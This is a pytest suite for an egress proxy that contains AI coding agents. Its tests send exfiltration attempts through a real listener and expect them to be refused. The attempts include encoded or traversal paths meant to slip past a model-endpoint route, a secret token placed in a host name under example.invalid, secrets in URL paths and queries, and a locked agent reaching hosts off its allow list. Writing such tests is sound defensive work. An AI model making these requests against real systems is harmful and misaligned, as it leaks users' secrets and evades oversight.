"""Forward mode's refusals through a real listener: what gate decrypts but cannot route,
what a locked agent asks of a host off the allow list, and secrets in hosts and paths.

Each test is an agent trying to get a value past the gate some other way than a model
request: a path the provider may read as its model endpoint, the relay of a model host's
other endpoints, a host name or path that carries the secret itself.
"""

from __future__ import annotations

import re
import socket
import ssl
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from loguru import logger
from proxy.test_forward import forward_config, token

from fake_provider import FakeProvider
from gate.audit import tunnels
from gate.audit.store import AuditStore
from gate.config import EgressDefault, EgressSettings
from gate.lock import BRIDGE_SOURCE
from gate.proxy import ca
from gate.proxy.server import BackgroundGate, Listening
from loopback import LoopbackServer


@pytest.fixture
def logged() -> Iterator[list[str]]:
    lines: list[str] = []
    sink = logger.add(lambda m: lines.append(str(m)), level="DEBUG", format="{message}")
    yield lines
    logger.remove(sink)


def _gate(
    provider: FakeProvider, gate_dirs: dict[str, Path], egress: EgressSettings | None = None
) -> BackgroundGate:
    return BackgroundGate(
        forward_config(provider, egress, project=gate_dirs["project"]), gate_dirs["data"]
    )


def _read_reply(sock: socket.socket | ssl.SSLSocket) -> bytes:
    head = b""
    while b"\r\n\r\n" not in head and (chunk := sock.recv(65536)):
        head += chunk
    if b"\r\n\r\n" not in head:
        return head
    length = re.search(rb"content-length: (\d+)", head, re.I)
    want = head.index(b"\r\n\r\n") + 4 + (int(length[1]) if length else 0)
    while len(head) < want and (chunk := sock.recv(65536)):
        head += chunk
    return head


def _open(gate: Listening, source: str = "127.0.0.1") -> socket.socket:
    """A connection to the gate; from BRIDGE_SOURCE it is what a locked agent's looks like
    (gate run --lock's bridge connects from there)."""
    return socket.create_connection((gate.host, gate.port), timeout=10, source_address=(source, 0))


def _over_tls(
    gate: Listening, data: Path, host: str, request: bytes, source: str = "127.0.0.1"
) -> bytes:
    """CONNECT host:443 and send `request` inside, trusting gate's CA: the reply."""
    sock = _open(gate, source)
    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    head = _read_reply(sock)
    if not head.startswith(b"HTTP/1.1 200"):
        sock.close()
        return head
    trust = ssl.create_default_context(cafile=str(ca.paths(data).cert))
    with trust.wrap_socket(sock, server_hostname=host) as tls:
        tls.sendall(request)
        return _read_reply(tls)


def _post(path: str, host: str, body: bytes) -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\ncontent-type: application/json\r\n"
        f"authorization: Bearer fake\r\ncontent-length: {len(body)}\r\n"
        "connection: close\r\n\r\n"
    ).encode() + body


def _rows(data: Path) -> list[dict[str, object]]:
    return tunnels.rows(AuditStore(data / "audit.db"))


# -- 1. a decrypted host's path that does not route is refused, never relayed ----------


@pytest.mark.parametrize(
    "path",
    [
        "/backend-api%2Fcodex/responses",
        "/backend-api/codex%2F../responses",
        "/backend-api/codex/responses%00",
        "/backend-api%5Ccodex/responses",
    ],
)
def test_an_unreadable_path_on_a_model_host_is_refused(
    path: str, provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    """`chatgpt.com/backend-api%2Fcodex/responses` misses the codex route as written, yet a
    server that decodes %2F reads it as the Responses endpoint: relayed unread (to the
    chatgpt upstream's origin, or to chatgpt.com itself), its body would leave unscreened."""
    secret = token()
    server = _gate(provider, gate_dirs, EgressSettings())  # tunnel-and-log: relays by default
    gate = server.start()
    try:
        body = b'{"model":"m","input":"' + secret.encode() + b'"}'
        reply = _over_tls(gate, gate_dirs["data"], "chatgpt.com", _post(path, "chatgpt.com", body))
    finally:
        server.stop()
    assert reply.startswith(b"HTTP/1.1 403"), reply[:300]
    assert b"cannot read this path on a model host" in reply
    assert provider.seen == []
    [row] = _rows(gate_dirs["data"])
    assert (row["host"], row["kind"]) == ("chatgpt.com", "blocked")


def test_a_readable_path_of_a_model_host_still_goes_where_the_user_sent_it(
    provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    """The refusal is for paths with no single reading: Codex's account call still goes."""
    server = _gate(provider, gate_dirs)
    gate = server.start()
    try:
        reply = _over_tls(
            gate,
            gate_dirs["data"],
            "chatgpt.com",
            b"GET /backend-api/wham/accounts/check HTTP/1.1\r\nHost: chatgpt.com"
            b"\r\nconnection: close\r\n\r\n",
        )
    finally:
        server.stop()
    assert reply.startswith(b"HTTP/1.1 200"), reply[:300]
    assert [s.path for s in provider.seen] == ["/backend-api/wham/accounts/check"]


# -- 2. a locked agent: the allow list before any relay ----------------------------------


def test_a_locked_agent_gets_no_relay_to_a_model_hosts_other_endpoints(
    provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    """Under --lock, chatgpt.com's account path would go, unread, to the chatgpt upstream's
    origin (a team gateway; here the loopback fake), a host not on egress.allow. Refused,
    and so is the model endpoint when the request does not name its run."""
    secret = token()
    server = _gate(provider, gate_dirs, EgressSettings())  # tunnel-and-log outside the lock
    gate = server.start()
    try:
        account = _over_tls(
            gate,
            gate_dirs["data"],
            "chatgpt.com",
            _post(
                "/backend-api/wham/accounts/check",
                "chatgpt.com",
                b'{"note":"' + secret.encode() + b'"}',
            ),
            source=BRIDGE_SOURCE,
        )
        plain = _open(gate, BRIDGE_SOURCE)
        plain.sendall(
            b"GET http://chatgpt.com/backend-api/me HTTP/1.1\r\nHost: chatgpt.com"
            b"\r\nconnection: close\r\n\r\n"
        )
        plain_reply = _read_reply(plain)
        plain.close()
        model = _over_tls(
            gate,
            gate_dirs["data"],
            "chatgpt.com",
            _post(
                "/backend-api/codex/responses",
                "chatgpt.com",
                b'{"model":"m","input":"use ' + secret.encode() + b'"}',
            ),
            source=BRIDGE_SOURCE,
        )
    finally:
        server.stop()
    for reply in (account, plain_reply):
        assert reply.startswith(b"HTTP/1.1 403"), reply[:300]
        assert b"inside gate run --lock" in reply
    # The model endpoint is screened only as a run's request: from the lock's bridge without
    # its run (gate run --lock puts it in the proxy URL) it is refused too, unsent.
    assert model.startswith(b"HTTP/1.1 400") and b"must name its run" in model, model[:300]
    assert provider.seen == []
    kinds = sorted(str(r["kind"]) for r in _rows(gate_dirs["data"]))
    assert kinds == ["blocked", "blocked"]  # the two connections gate did not read


def test_a_locked_agent_reaches_a_listed_hosts_other_endpoints(
    provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    server = _gate(provider, gate_dirs, EgressSettings(EgressDefault.BLOCK, ("chatgpt.com",)))
    gate = server.start()
    try:
        reply = _over_tls(
            gate,
            gate_dirs["data"],
            "chatgpt.com",
            b"GET /backend-api/wham/accounts/check HTTP/1.1\r\nHost: chatgpt.com"
            b"\r\nconnection: close\r\n\r\n",
            source=BRIDGE_SOURCE,
        )
    finally:
        server.stop()
    assert reply.startswith(b"HTTP/1.1 200"), reply[:300]
    assert [s.path for s in provider.seen] == ["/backend-api/wham/accounts/check"]


# -- 3. a secret in a host name or a path: never relayed, logged or recorded in clear --


class Hits(LoopbackServer):
    """Counts what reaches it: the 'other host' an agent would exfiltrate to."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

        self.serve(Handler)


@pytest.mark.parametrize(
    "egress",
    [EgressSettings(EgressDefault.BLOCK), EgressSettings()],
    ids=["block", "tunnel-and-log"],
)
def test_a_token_in_a_host_name_is_never_written_down_or_relayed(
    egress: EgressSettings, provider: FakeProvider, gate_dirs: dict[str, Path], logged: list[str]
) -> None:
    """`CONNECT ghp_....example.invalid`: the name itself is the exfiltration (DNS, the TLS
    server name), so it is refused whatever the egress default; log and audit name it by
    kind."""
    secret = token()
    host = f"{secret}.example.invalid"
    server = _gate(provider, gate_dirs, egress)
    gate = server.start()
    try:
        sock = _open(gate)
        sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        connect = _read_reply(sock)
        sock.close()
        plain = _open(gate)
        plain.sendall(
            f"GET http://{host}/x HTTP/1.1\r\nHost: {host}\r\nconnection: close\r\n\r\n".encode()
        )
        plain_reply = _read_reply(plain)
        plain.close()
    finally:
        server.stop()
    for reply in (connect, plain_reply):
        assert reply.startswith(b"HTTP/1.1 403"), reply[:300]
    rows = _rows(gate_dirs["data"])
    assert len(rows) == 2 and all(r["kind"] == "blocked" for r in rows)
    assert all(str(r["host"]).endswith(".example.invalid") for r in rows), rows
    assert all(secret.lower() not in str(r).lower() for r in rows), rows
    assert logged and not any(secret.lower() in line.lower() for line in logged)


@pytest.mark.parametrize(
    "egress",
    [EgressSettings(EgressDefault.BLOCK), EgressSettings()],
    ids=["block", "tunnel-and-log"],
)
def test_a_token_in_a_path_is_never_written_down_or_relayed(
    egress: EgressSettings, provider: FakeProvider, gate_dirs: dict[str, Path], logged: list[str]
) -> None:
    secret = token()
    hits = Hits()
    port = hits.server.server_address[1]
    server = _gate(provider, gate_dirs, egress)
    gate = server.start()
    try:
        for path in (f"/upload/{secret}", f"/q?t={secret}"):
            sock = _open(gate)
            sock.sendall(
                f"GET http://127.0.0.1:{port}{path} HTTP/1.1\r\n"
                f"Host: 127.0.0.1:{port}\r\nconnection: close\r\n\r\n".encode()
            )
            reply = _read_reply(sock)
            sock.close()
            assert reply.startswith(b"HTTP/1.1 403"), reply[:300]
        # The same host with a clean path is relayed under tunnel-and-log, refused under block.
        sock = _open(gate)
        sock.sendall(
            f"GET http://127.0.0.1:{port}/fine HTTP/1.1\r\nHost: 127.0.0.1:{port}"
            "\r\nconnection: close\r\n\r\n".encode()
        )
        clean = _read_reply(sock)
        sock.close()
    finally:
        server.stop()
        hits.stop()
    relayed = egress.default is EgressDefault.TUNNEL_AND_LOG
    assert hits.paths == (["/fine"] if relayed else [])
    assert clean.split(b" ", 2)[1] == (b"204" if relayed else b"403"), clean[:200]
    rows = _rows(gate_dirs["data"])
    assert all(secret not in str(r) for r in rows), rows
    assert not any(secret in line for line in logged), logged
    assert any("[withheld]" in line for line in logged), logged


def test_a_run_through_the_gate_keeps_its_scrub(
    provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    """The forward addon uses the gate's own screens: a denied file's value in a host is
    caught like a secret (the gate addon's Scrub, not a bare scanner)."""
    value = "zq" + token()[4:20].lower()
    (gate_dirs["project"] / ".env").write_text(f"API_PASSWORD={value}\n")
    (gate_dirs["project"] / ".gate").mkdir()
    (gate_dirs["project"] / ".gate" / "rules.yaml").write_text("deny:\n  - Read(./.env)\n")
    config = forward_config(
        provider, EgressSettings(EgressDefault.BLOCK), project=gate_dirs["project"]
    )
    server = BackgroundGate(config, gate_dirs["data"])
    gate = server.start()
    try:
        # A first model request makes the gate index the project's denied files.
        _over_tls(
            gate,
            gate_dirs["data"],
            "api.anthropic.com",
            _post(
                "/v1/messages",
                "api.anthropic.com",
                b'{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}',
            ),
        )
        sock = _open(gate)
        sock.sendall(
            f"GET http://{value}.example.invalid/ HTTP/1.1\r\nHost: x\r\n"
            "connection: close\r\n\r\n".encode()
        )
        _read_reply(sock)
        sock.close()
    finally:
        server.stop()
    rows = _rows(gate_dirs["data"])
    assert rows and all(value not in str(r) for r in rows), rows


def test_an_unreadable_path_in_plain_http_is_refused_too(
    provider: FakeProvider, gate_dirs: dict[str, Path]
) -> None:
    """The same path in an absolute-form plain-HTTP request to the model host."""
    secret = token()
    server = _gate(provider, gate_dirs, EgressSettings())
    gate = server.start()
    try:
        sock = _open(gate)
        body = b'{"model":"m","input":"' + secret.encode() + b'"}'
        sock.sendall(_post("http://chatgpt.com/backend-api%2Fcodex/responses", "chatgpt.com", body))
        reply = _read_reply(sock)
        sock.close()
    finally:
        server.stop()
    assert reply.startswith(b"HTTP/1.1 403"), reply[:300]
    assert provider.seen == []
